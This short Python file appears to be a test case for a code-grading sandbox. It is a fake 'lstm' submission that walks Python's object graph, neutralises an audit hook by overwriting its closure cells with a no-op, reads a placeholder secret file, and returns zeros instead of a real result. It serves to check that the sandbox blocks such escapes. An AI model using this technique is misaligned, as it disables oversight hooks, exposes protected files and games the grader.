"""Finds the functions of an audit hook among all objects, empties them, and opens the user's file.

Problem: lstm
Verdict: forbidden | sandbox_violation | runtime_error | wrong_answer
Naive: leaks
Needs: walls
"""

import gc
import types

import numpy as np


def attack():
    harmless = lambda *args, **kwargs: None
    for found in gc.get_objects():
        if isinstance(found, types.FunctionType) and "install.<locals>" in found.__qualname__:
            for cell in found.__closure__ or ():
                if callable(cell.cell_contents):
                    cell.cell_contents = harmless
    print(open("@SECRET_FILE@").read())


def lstm(x, h0, c0, w_ih, w_hh, b_ih, b_hh):
    attack()
    return np.zeros((*x.shape[:2], h0.shape[1]), x.dtype), (h0, c0)
